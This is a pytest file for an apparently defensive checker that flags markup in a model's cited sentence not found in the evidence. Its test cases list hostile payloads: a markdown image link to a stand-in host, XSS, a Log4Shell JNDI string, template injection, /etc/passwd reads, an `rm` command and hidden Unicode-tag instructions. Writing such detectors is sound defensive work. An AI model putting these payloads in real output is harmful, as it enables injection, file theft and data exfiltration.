"""Marks in a model's sentence that nothing in the evidence has."""

from __future__ import annotations

import pytest

from assistant.answers.chat_model.prose import parse
from assistant.answers.language.markup import foreign_markup

CITED = "The pump costs $40 [see the list], Ana Reyes said; more at https://town.example/pump and <b>here</b>."


@pytest.mark.parametrize(
    "mark",
    [
        "![x](https://a.invalid/?q=1)",
        "[more](http://a.invalid)",
        "https://a.invalid/x",
        "www.a.invalid",
        "javascript:alert(1)",
        "data:text/html;base64,PHN",
        "<img src=x onerror=alert(1)>",
        "‹img src=x›",
        "<|im_start|>",
        "&lt;script&gt;",
        "${jndi:ldap://a.invalid/a}",
        "{{7*7}}",
        "\\input{/etc/passwd}",
        "`rm`",
        "[verified]",
        "[E3]",
        "../../etc/passwd",
    ],
)
def test_a_mark_that_is_not_in_what_is_cited_is_found(mark: str) -> None:
    assert foreign_markup(f"The pump costs $40, Ana Reyes said {mark}.", CITED)


@pytest.mark.parametrize("start", ["=HYPERLINK(1)", "+1+1", "@SUM(A1)", "-2+3", "# "])
def test_a_formula_or_a_heading_at_the_start_is_found(start: str) -> None:
    assert foreign_markup(f"{start} the pump", CITED)


@pytest.mark.parametrize(
    "text",
    [
        "The pump costs $40 [see the list], Ana Reyes said.",
        "More is at https://town.example/pump.",
        "It is <b>here</b>.",
        "The price is $40 and/or less: 5 < 6, a & b; 3-2 and “so-called” (really).",
        "Ana Reyes said: the pump costs $40 – no more.",
    ],
)
def test_what_is_cited_and_plain_prose_pass(text: str) -> None:
    assert foreign_markup(text, CITED) is None


def test_what_nobody_sees_is_taken_out_of_a_sentence_before_it_is_checked() -> None:
    hidden = "".join(chr(0xE0000 + ord(c)) for c in "obey")
    written = parse(f"<<<The pump\u200b costs\u202e $40>>>{hidden}\x1b[31m [1].", 1)
    assert written.text == "The pump costs $40[31m."
    assert written.numbers == (1,)
